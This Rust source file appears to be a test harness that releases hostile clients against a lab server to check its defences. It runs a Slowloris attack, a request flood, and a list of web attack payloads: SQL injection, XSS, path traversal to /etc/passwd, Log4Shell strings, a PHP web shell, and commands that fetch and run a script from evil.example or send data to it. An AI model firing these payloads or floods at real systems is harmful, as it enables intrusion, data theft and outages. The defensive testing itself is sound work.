//! A crowd of hostile clients with real connections: some never finish their request, some ask too often, one sends
//! attacks.
//!
//! Owns: their sockets and what became of them. Everything is bounded: [`SLOW_CONNECTIONS`], [`FLOOD_CONNECTIONS`],
//! [`REQUESTS_PER_SECOND`] and [`BETWEEN_ATTACKS`]. They live in the client's namespace with addresses of their own, so
//! that limits by source can tell them from the honest client.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::os::fd::AsRawFd as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use nix::sys::socket::{
    AddressFamily, SockFlag, SockType, SockaddrStorage, bind, connect, setsockopt, socket, sockopt,
};
use nix::sys::time::TimeVal;
use rustls::pki_types::ServerName;
use rustls::{ClientConfig, ClientConnection, StreamOwned};

use crate::lab::{CLIENT, Lab, SMALL_PATH, vip};
use crate::tls::{self, Alpn};
use crate::{cpu, netns, tool};

/// Connections that send a byte of their request now and then.
pub(super) const SLOW_CONNECTIONS: usize = 200;
/// Connections of the request flood.
const FLOOD_CONNECTIONS: usize = 8;
/// Requests of the flood, all connections together: several times what the node allows one source.
const REQUESTS_PER_SECOND: u64 = 2_000;
/// Time between two bytes of a slow connection.
const SLOW_STEP: Duration = Duration::from_millis(500);
/// Time between two attacks: slow enough for every limit.
const BETWEEN_ATTACKS: Duration = Duration::from_millis(50);
/// What is tried: targets, one of each well-known kind.
const ATTACKS: &[&str] = &[
    "/?id=1%27%20OR%20%271%27%3D%271%27--%20-",
    "/?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/?q=1%3B%20DROP%20TABLE%20users%3B--",
    "/?id=1%20AND%20SLEEP(5)",
    "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/?q=%3Csvg/onload%3Dfetch(%27//evil.example%27)%3E",
    "/?file=../../../../etc/passwd",
    "/?file=..%252f..%252f..%252fetc%252fshadow",
    "/?page=php://filter/convert.base64-encode/resource=index.php",
    "/?cmd=%3Bcat%20/etc/passwd",
    "/?host=127.0.0.1%7Cwget%20http://evil.example/x.sh%20-O-%7Csh",
    "/?x=%24(curl%20http://evil.example/%60whoami%60)",
    "/?x=%24%7Bjndi:ldap://evil.example/a%7D",
    "/?x=%24%7B%24%7Blower:j%7Dndi:ldap://evil.example/a%7D",
    "/.git/config",
    "/wp-config.php.bak",
    "/?a=%3C?php%20system(%24_GET%5B%27c%27%5D);%20?%3E",
];
/// A hostile client does not wait long for anything.
const SOCKET_TIMEOUT_MS: i64 = 2_000;

/// What the crowd has seen so far.
#[derive(Debug, Default)]
pub(super) struct Crowd {
    /// Slow connections that were opened.
    pub(super) slow_opened: AtomicU64,
    /// Slow connections that the node ended.
    pub(super) slow_ended: AtomicU64,
    /// Connections that the flood of requests opened.
    pub(super) flood_opened: AtomicU64,
    /// Requests of the flood that were sent.
    pub(super) asked: AtomicU64,
    /// Those answered with 200.
    pub(super) served: AtomicU64,
    /// Those answered with anything else, or with the end of the connection.
    pub(super) refused: AtomicU64,
    /// Whether there are rules, so that attacks are sent.
    pub(super) has_rules: bool,
    /// Connections of the client that sends attacks.
    pub(super) attacks_opened: AtomicU64,
    /// Attacks that were sent.
    pub(super) attacks_sent: AtomicU64,
    /// Those that were not served.
    pub(super) attacks_refused: AtomicU64,
    /// Everybody goes home.
    pub(super) stop: AtomicBool,
}

impl Crowd {
    fn is_over(&self) -> bool {
        self.stop.load(Ordering::Relaxed) || crate::interrupt::requested()
    }
}

/// Gives the crowd an address of its own and lets it loose until [`Crowd::stop`].
///
/// # Errors
/// When the address cannot be had; a connection that fails is an observation, not an error.
pub(super) fn run(lab: &Lab, family: u8, crowd: &Crowd) -> Result<()> {
    let client = lab.topology.client();
    let (from, attacker) = (address(family, 64), address(family, 65));
    let bits = if from.is_ipv4() { "24" } else { "64 nodad" };
    for from in [from, attacker] {
        tool::run(&format!("ip -n {client} addr add {from}/{bits} dev {}", CLIENT.far_if))
            .context("an address for the hostile clients")?;
    }
    let to = SocketAddr::new(vip(family), 443);
    let config = tls::client_config(Alpn::Http1)?;
    netns::inside(&client, || {
        std::thread::scope(|scope| {
            scope.spawn(|| {
                let _ = cpu::pin(0, cpu::defence_core());
                dawdle(from, to, &config, crowd);
            });
            if crowd.has_rules {
                scope.spawn(|| {
                    let _ = cpu::pin(0, cpu::defence_core());
                    attack(attacker, to, &config, crowd);
                });
            }
            let _ = cpu::pin(0, cpu::defence_core());
            ask_too_much(from, to, &config, crowd);
        });
        Ok(())
    })
}

fn address(family: u8, offset: u32) -> IpAddr {
    match CLIENT.far(family) {
        IpAddr::V4(addr) => IpAddr::V4((u32::from(addr) + offset).into()),
        IpAddr::V6(addr) => IpAddr::V6((u128::from(addr) + u128::from(offset)).into()),
    }
}

type Tls = StreamOwned<ClientConnection, TcpStream>;

/// Slowloris: a request that is never finished, on many connections.
fn dawdle(from: IpAddr, to: SocketAddr, config: &Arc<ClientConfig>, crowd: &Crowd) {
    let mut connections: Vec<Tls> = Vec::new();
    while !crowd.is_over() {
        let round = Instant::now();
        while connections.len() < SLOW_CONNECTIONS && round.elapsed() < SLOW_STEP && !crowd.is_over() {
            let Ok(mut connection) = open(from, to, config) else { break };
            if connection.write_all(b"GET / HTTP/1.1\r\nHost: slow\r\nX-Slow: ").is_err() {
                break;
            }
            let _ = connection.sock.set_nonblocking(true);
            crowd.slow_opened.fetch_add(1, Ordering::Relaxed);
            connections.push(connection);
        }
        connections.retain_mut(|connection| {
            // What comes back before the request is whole can only be its end.
            let ended = match connection.read(&mut [0; 512]) {
                Ok(_) => true,
                Err(error) => error.kind() != std::io::ErrorKind::WouldBlock,
            } || connection.write_all(b"a").is_err();
            crowd.slow_ended.fetch_add(u64::from(ended), Ordering::Relaxed);
            !ended
        });
        std::thread::sleep(SLOW_STEP.saturating_sub(round.elapsed()));
    }
}

/// Requests in a row on a few connections, faster than one source may.
fn ask_too_much(from: IpAddr, to: SocketAddr, config: &Arc<ClientConfig>, crowd: &Crowd) {
    let mut connections: Vec<Option<Tls>> = (0..FLOOD_CONNECTIONS).map(|_| None).collect();
    let request = format!("GET {SMALL_PATH} HTTP/1.1\r\nHost: flood\r\n\r\n");
    let mut due = Instant::now();
    while !crowd.is_over() {
        for slot in &mut connections {
            due += Duration::from_nanos(1_000_000_000 / REQUESTS_PER_SECOND);
            std::thread::sleep(due.saturating_duration_since(Instant::now()));
            if due.elapsed() > Duration::from_secs(1) {
                // The node is slower than we ask: no debt is carried on.
                due = Instant::now();
            }
            if slot.is_none() {
                *slot = open(from, to, config).ok();
                crowd.flood_opened.fetch_add(u64::from(slot.is_some()), Ordering::Relaxed);
            }
            let Some(connection) = slot else { continue };
            crowd.asked.fetch_add(1, Ordering::Relaxed);
            match ask(connection, &request) {
                Some(true) => {
                    crowd.served.fetch_add(1, Ordering::Relaxed);
                }
                Some(false) => {
                    crowd.refused.fetch_add(1, Ordering::Relaxed);
                }
                None => {
                    crowd.refused.fetch_add(1, Ordering::Relaxed);
                    *slot = None;
                }
            }
        }
    }
}

/// Attacks in turn, each in a request of its own.
fn attack(from: IpAddr, to: SocketAddr, config: &Arc<ClientConfig>, crowd: &Crowd) {
    let mut slot = None;
    for target in ATTACKS.iter().cycle() {
        if crowd.is_over() {
            return;
        }
        if slot.is_none() {
            slot = open(from, to, config).ok();
            crowd.attacks_opened.fetch_add(u64::from(slot.is_some()), Ordering::Relaxed);
        }
        let request = format!(
            "GET {target} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"
        );
        if let Some(connection) = &mut slot {
            crowd.attacks_sent.fetch_add(1, Ordering::Relaxed);
            let served = ask(connection, &request);
            if served != Some(true) {
                crowd.attacks_refused.fetch_add(1, Ordering::Relaxed);
            }
            if served.is_none() {
                slot = None;
            }
        }
        std::thread::sleep(BETWEEN_ATTACKS);
    }
}

/// One request; whether it was served, or `None` when the connection is over.
fn ask(connection: &mut Tls, request: &str) -> Option<bool> {
    connection.write_all(request.as_bytes()).ok()?;
    let mut answer = Vec::new();
    loop {
        let mut part = [0; 4096];
        let count = connection.read(&mut part).ok().filter(|count| *count > 0)?;
        answer.extend_from_slice(&part[..count]);
        let text = String::from_utf8_lossy(&answer);
        let Some((head, _)) = text.split_once("\r\n\r\n") else { continue };
        let length: usize = head.lines().find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("content-length").then(|| value.trim().parse().ok())?
        })?;
        if answer.len() >= head.len() + 4 + length {
            let closes = head.to_ascii_lowercase().contains("connection: close");
            let served = head.starts_with("HTTP/1.1 200");
            return if closes && !served { None } else { Some(served) };
        }
    }
}

fn open(from: IpAddr, to: SocketAddr, config: &Arc<ClientConfig>) -> Result<Tls> {
    let family = if to.is_ipv4() { AddressFamily::Inet } else { AddressFamily::Inet6 };
    let fd = socket(family, SockType::Stream, SockFlag::SOCK_CLOEXEC, None)?;
    let timeout = TimeVal::new(SOCKET_TIMEOUT_MS / 1_000, 0);
    setsockopt(&fd, sockopt::TcpNoDelay, &true)?;
    setsockopt(&fd, sockopt::ReceiveTimeout, &timeout)?;
    setsockopt(&fd, sockopt::SendTimeout, &timeout)?;
    bind(fd.as_raw_fd(), &SockaddrStorage::from(SocketAddr::new(from, 0)))?;
    connect(fd.as_raw_fd(), &SockaddrStorage::from(to))?;
    let name = ServerName::IpAddress(to.ip().into());
    let connection = ClientConnection::new(Arc::clone(config), name)?;
    Ok(StreamOwned::new(connection, TcpStream::from(fd)))
}
